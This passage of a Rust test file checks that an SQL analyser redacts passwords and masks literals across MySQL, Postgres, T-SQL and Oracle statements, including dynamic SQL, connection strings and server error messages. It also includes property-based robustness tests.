        ),
        (
            Dialect::TSql,
            "EXEC sp_password @old = NULL, @new = 'pw', @loginame = 'bob'",
            "EXEC sp_password @old = NULL, @new = '***', @loginame = 'bob'",
        ),
        (
            Dialect::TSql,
            "EXEC sp_addlinkedsrvlogin 'srv', 'false', NULL, 'remote', 'pw'",
            "EXEC sp_addlinkedsrvlogin 'srv', 'false', NULL, 'remote', '***'",
        ),
        (
            Dialect::TSql,
            "EXEC sp_addlinkedsrvlogin @rmtsrvname = 'srv', @rmtpassword = 'pw'",
            "EXEC sp_addlinkedsrvlogin @rmtsrvname = 'srv', @rmtpassword = '***'",
        ),
        // A procedure named in brackets.
        (
            Dialect::TSql,
            "EXEC [sp_addlogin] 'bob', 'pw1'",
            "EXEC [sp_addlogin] 'bob', '***'",
        ),
        (
            Dialect::TSql,
            "EXEC master.dbo.[sp_password] 'oldpw', 'newpw', 'bob'",
            "EXEC master.dbo.[sp_password] '***', '***', 'bob'",
        ),
        // MySQL 8: the current password after REPLACE.
        (
            Dialect::MySql,
            "SET PASSWORD FOR 'bob'@'%' = 'newpw' REPLACE 'oldpw'",
            "SET PASSWORD FOR 'bob'@'%' = '***' REPLACE '***'",
        ),
        // Oracle's verifier.
        (
            Dialect::Oracle,
            "ALTER USER scott IDENTIFIED BY VALUES 'S:8F2D65FB5547B71C8DA3760F10960428CD307B1C6271691FC55C1F56554A;T:pw'",
            "ALTER USER scott IDENTIFIED BY VALUES '***'",
        ),
        // An unquoted password outside Oracle: a syntax error, but it travelled all the same.
        (
            Dialect::MySql,
            "CREATE USER bob IDENTIFIED BY pwUnquoted",
            "CREATE USER bob IDENTIFIED BY ***",
        ),
    ];
    for (d, sql, want) in cases {
        let a = analyze(sql, *d);
        assert_eq!(a.redacted.as_deref(), Some(*want), "{sql}");
        assert!(!a.normalized.contains("pw"), "{sql}: {}", a.normalized);
    }
}

/// Dynamic SQL: a password inside a string literal that is itself SQL (run by EXECUTE IMMEDIATE,
/// sp_executesql, EXEC(), a DO block) is redacted in place, the rest of the text kept.
#[test]
fn passwords_inside_dynamic_sql_are_redacted() {
    let cases: &[(Dialect, &str, &str)] = &[
        (
            Dialect::Oracle,
            "BEGIN EXECUTE IMMEDIATE 'ALTER USER bob IDENTIFIED BY S3cr3t'; END;",
            "BEGIN EXECUTE IMMEDIATE 'ALTER USER bob IDENTIFIED BY ***'; END;",
        ),
        (
            Dialect::Oracle,
            "BEGIN EXECUTE IMMEDIATE q'[CREATE USER x IDENTIFIED BY \"Pw1\"]'; END;",
            "BEGIN EXECUTE IMMEDIATE q'[CREATE USER x IDENTIFIED BY \"***\"]'; END;",
        ),
        (
            Dialect::TSql,
            "EXEC sp_executesql N'CREATE LOGIN bob WITH PASSWORD = ''S3cr3t'''",
            "EXEC sp_executesql N'CREATE LOGIN bob WITH PASSWORD = ''***'''",
        ),
        (
            Dialect::TSql,
            "EXEC('ALTER LOGIN bob WITH PASSWORD = ''x1''')",
            "EXEC('ALTER LOGIN bob WITH PASSWORD = ''***''')",
        ),
        (
            Dialect::MySql,
            "PREPARE s FROM \"CREATE USER 'bob'@'%' IDENTIFIED BY 'x1'\"",
            "PREPARE s FROM \"CREATE USER 'bob'@'%' IDENTIFIED BY '***'\"",
        ),
        (
            Dialect::Postgres,
            "DO $$BEGIN CREATE ROLE x LOGIN PASSWORD 'pw9'; END$$",
            "DO $$BEGIN CREATE ROLE x LOGIN PASSWORD '***'; END$$",
        ),
        (
            Dialect::Postgres,
            "DO $body$BEGIN EXECUTE 'ALTER ROLE bob PASSWORD ''pw8'''; END$body$",
            "DO $body$BEGIN EXECUTE 'ALTER ROLE bob PASSWORD ''***'''; END$body$",
        ),
    ];
    for (d, sql, want) in cases {
        let a = analyze(sql, *d);
        assert_eq!(a.redacted.as_deref(), Some(*want), "{sql}");
        for secret in ["S3cr3t", "Pw1", "x1", "pw9", "pw8"] {
            assert!(!a.normalized.contains(secret), "{sql}: {}", a.normalized);
        }
        assert!(!a.secret_values.is_empty(), "{sql}");
    }
    // A string that merely mentions a password is left alone.
    assert_eq!(my("SELECT 'forgot your password?' AS hint").redacted, None);
    assert_eq!(
        ts("EXEC sp_executesql N'SELECT password_hash FROM t'").redacted,
        None
    );
}

/// A server's error message that quotes the statement near a mistake quotes its password too:
/// the record scrubs it. Statements kept beside the one that failed are redacted (and masked)
/// as the statement is.
#[test]
fn passwords_quoted_back_and_kept_beside_the_statement_are_redacted() {
    let a = my("CREATE USR bob IDENTIFIED BY 'S3cr3t'");
    assert_eq!(a.secret_values, ["S3cr3t"]);
    let message = "You have an error in your SQL syntax; check the manual that corresponds to \
                   your MariaDB server version for the right syntax to use near 'USR bob \
                   IDENTIFIED BY 'S3cr3t'' at line 1";
    let scrubbed = crate::sql::scrub(message, &a.secret_values);
    assert!(!scrubbed.contains("S3cr3t"));
    assert!(scrubbed.ends_with("near 'USR bob IDENTIFIED BY '***'' at line 1"));
    assert_eq!(
        crate::sql::scrub("Unknown column", &a.secret_values),
        "Unknown column"
    );
    assert_eq!(
        ora("CREATE USER n IDENTIFIED BY Nurse1").secret_values,
        ["Nurse1"]
    );
    assert_eq!(
        ts("CREATE LOGIN x WITH PASSWORD = N'Pw9'").secret_values,
        ["Pw9"]
    );

    let rest = "ALTER ROLE bob PASSWORD 'hunter2secret'; SELECT 42";
    assert_eq!(
        crate::sql::shown_text(rest, Dialect::Postgres, false),
        "ALTER ROLE bob PASSWORD '***'; SELECT 42"
    );
    assert_eq!(
        crate::sql::shown_text(rest, Dialect::Postgres, true),
        "ALTER ROLE bob PASSWORD ?; SELECT ?"
    );
    assert_eq!(
        crate::sql::shown_text("SELECT 1", Dialect::MySql, false),
        "SELECT 1"
    );
}

/// Passwords in connection strings, inside any string literal: the value of `password=`,
/// `pwd=` or `passwd=`, however many SQL tokens it would make.
#[test]
fn passwords_in_connection_strings_are_redacted() {
    let cases: &[(Dialect, &str, &str)] = &[
        (
            Dialect::TSql,
            "SELECT * FROM OPENROWSET('SQLNCLI', 'Server=10.1.1.5;Uid=sa;Pwd=P@ss!w0rd;', 'SELECT 1')",
            "SELECT * FROM OPENROWSET('SQLNCLI', 'Server=10.1.1.5;Uid=sa;Pwd=***;', 'SELECT 1')",
        ),
        (
            Dialect::TSql,
            "SELECT * FROM OPENDATASOURCE('MSOLEDBSQL', 'Data Source=lis;User ID=sa;Password={P;w0rd}').lis.dbo.t",
            "SELECT * FROM OPENDATASOURCE('MSOLEDBSQL', 'Data Source=lis;User ID=sa;Password={***}').lis.dbo.t",
        ),
        (
            Dialect::TSql,
            "EXEC sp_addlinkedserver @server = 'lis', @provstr = N'Server=lis;UID=sa;PWD = x9!'",
            "EXEC sp_addlinkedserver @server = 'lis', @provstr = N'Server=lis;UID=sa;PWD = ***'",
        ),
        (
            Dialect::Postgres,
            "SELECT dblink_connect('c', 'host=10.0.0.9 dbname=his user=etl password=S3cret port=5432')",
            "SELECT dblink_connect('c', 'host=10.0.0.9 dbname=his user=etl password=*** port=5432')",
        ),
        (
            Dialect::Postgres,
            "SELECT dblink_connect('host=x password=''p w'' user=u')",
            "SELECT dblink_connect('host=x password=''***'' user=u')",
        ),
    ];
    for (dialect, sql, want) in cases {
        let a = analyze(sql, *dialect);
        assert_eq!(a.redacted.as_deref(), Some(*want), "{sql}");
        assert!(!a.normalized.contains("S3cret") && !a.normalized.contains("x9!"));
    }
    let a = ts("SELECT * FROM OPENROWSET('SQLNCLI', 'Server=s;Uid=sa;Pwd=P@ss!w0rd;', 'SELECT 1')");
    assert_eq!(a.secret_values, ["P@ss!w0rd"]);
    for sql in [
        "SELECT 'password reset for bob'",
        "SELECT * FROM t WHERE note = 'pwd_hint=1'",
        "SELECT 'pwd'",
    ] {
        assert_eq!(ts(sql).redacted, None, "{sql}");
    }
}

/// A bare word after `PASSWORD =` is taken as the password (the server rejects it, but the text
/// travelled); setting words are not.
#[test]
fn a_bare_word_after_password_equals_is_redacted() {
    assert_eq!(
        ts("CREATE LOGIN bob WITH PASSWORD = S3cret, CHECK_POLICY = OFF")
            .redacted
            .as_deref(),
        Some("CREATE LOGIN bob WITH PASSWORD = ***, CHECK_POLICY = OFF")
    );
    assert_eq!(
        my("CHANGE MASTER TO MASTER_PASSWORD = hunter2")
            .redacted
            .as_deref(),
        Some("CHANGE MASTER TO MASTER_PASSWORD = ***")
    );
    for sql in [
        "SET GLOBAL log_builtin_as_identified_by_password = ON",
        "ALTER USER bob PASSWORD EXPIRE",
        "ALTER USER u IDENTIFIED WITH caching_sha2_password BY RANDOM PASSWORD",
    ] {
        assert_eq!(my(sql).redacted, None, "{sql}");
    }
}

#[test]
fn statements_without_passwords_are_not_redacted() {
    for sql in [
        "SELECT password FROM users WHERE id = 1",
        "ALTER USER bob PASSWORD EXPIRE",
        "ALTER USER bob IDENTIFIED BY RANDOM PASSWORD",
        "CREATE USER u IDENTIFIED WITH auth_socket",
        "SELECT 'IDENTIFIED BY' FROM t",
    ] {
        assert_eq!(my(sql).redacted, None, "{sql}");
    }
    // Oracle's unquoted password is only taken right after IDENTIFIED BY.
    assert_eq!(ora("CREATE USER x IDENTIFIED EXTERNALLY").redacted, None);
}

#[test]
fn placeholder_passwords_mark_their_bound_values() {
    assert_eq!(
        my("CREATE USER ? IDENTIFIED BY ?").secret_params,
        vec![SecretParam::Index(1)]
    );
    assert_eq!(
        pg("ALTER ROLE app PASSWORD $2").secret_params,
        vec![SecretParam::Index(1)]
    );
    assert_eq!(
        ts("CREATE LOGIN x WITH PASSWORD = @P2").secret_params,
        vec![SecretParam::Name("@P2".into())]
    );
    // sp_executesql's statement: the placeholder, not a literal, is the secret.
    let a = ts("ALTER LOGIN app WITH PASSWORD = @pw OLD_PASSWORD = @old");
    assert_eq!(
        a.secret_params,
        vec![
            SecretParam::Name("@pw".into()),
            SecretParam::Name("@old".into())
        ]
    );
    assert_eq!(a.redacted, None);
    assert_eq!(
        ora("ALTER USER :u IDENTIFIED BY :pw").secret_params,
        vec![SecretParam::Index(1)]
    );
    // A placeholder itself is not secret text: nothing to redact in the SQL.
    assert_eq!(my("CREATE USER ? IDENTIFIED BY ?").redacted, None);
}

// ---- masking ----

#[test]
fn literal_masking_keeps_everything_but_literals() {
    assert_eq!(
        mask_literals(
            "SELECT name FROM patient WHERE id_card = '110101199003074518' AND age > 60 -- c",
            Dialect::MySql
        ),
        "SELECT name FROM patient WHERE id_card = ? AND age > ? -- c"
    );
    assert_eq!(mask_literals("SELECT 1", Dialect::Postgres), "SELECT ?");
    assert!(matches!(
        mask_literals("SELECT a FROM t", Dialect::MySql),
        Cow::Borrowed(_)
    ));
}

// ---- robustness ----

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(2000))]

    /// Any text, in any dialect: no panic, bounded output, redaction and masking never grow a
    /// secret back.
    #[test]
    fn any_text_is_analysed(sql in "(?s).{0,200}", d in 0usize..4) {
        let d = [Dialect::MySql, Dialect::Postgres, Dialect::TSql, Dialect::Oracle][d];
        let a = analyze(&sql, d);
        proptest::prop_assert!(a.normalized.len() <= MAX_NORMALIZED_LEN);
        proptest::prop_assert!(a.objects.len() <= MAX_OBJECTS);
        let _ = mask_literals(&sql, d);
    }

    /// SQL-shaped text built from the tokens that matter.
    #[test]
    fn sql_shaped_text_is_analysed(parts in proptest::collection::vec(proptest::sample::select(vec![
        "SELECT", "FROM", "WHERE", "IN", "(", ")", ",", ";", "'x'", "\"q\"", "`b`", "[t]", "--c\n",
        "/*", "*/", "/*!", "$$", "$a$", "q'[", "]'", "?", "$1", ":p", "@p", "=", "-", "1", "0x1F",
        "IDENTIFIED", "BY", "PASSWORD", "VALUES", "WITH", "AS", "JOIN", "DELETE", "INSERT", "INTO",
        "UPDATE", "SET", "CREATE", "TABLE", "EXEC", "sp_addlogin", "BEGIN", "END", "t", "s.t", " ",
        // Statement boundaries and connection strings.
        "THEN", "ELSE", "LOOP", "GRANT", "MERGE", "DROP", "PROCEDURE", "ON", "CASCADE", "UNION",
        "FOR", "IF", "EXISTS", "'Pwd=", "password =", "{", "}", "'#'", "''", "患者", "\n",
    ]), 0..60), d in 0usize..4) {
        let sql = parts.concat();
        let d = [Dialect::MySql, Dialect::Postgres, Dialect::TSql, Dialect::Oracle][d];
        let a = analyze(&sql, d);
        proptest::prop_assert!(a.normalized.len() <= MAX_NORMALIZED_LEN);
        proptest::prop_assert!(a.statements.len() <= MAX_STATEMENTS);
        let _ = mask_literals(&sql, d);
    }
}
